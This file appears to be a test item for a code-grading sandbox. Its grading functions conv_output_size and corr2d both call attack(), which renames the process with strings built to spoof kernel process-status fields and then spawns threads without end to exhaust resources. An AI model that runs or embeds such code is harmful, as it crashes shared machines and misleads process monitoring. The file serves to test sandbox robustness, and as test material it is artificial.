# group: resources and survivors
# tries: Give its process a name that reads like what the kernel tells about processes, and start threads without end.
# accept: memory error timeout crash
# check: time processes
# score: 0
# varies: by the speed of the machine

import ctypes
import threading
import time

libc = ctypes.CDLL(None)


def attack():
    for name in (b"x) Z 1 1 1", b"\nThreads:\t1\nS", b"\nState:\tS\nR"):
        libc.prctl(15, name, 0, 0, 0)
    threading.stack_size(1 << 16)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654

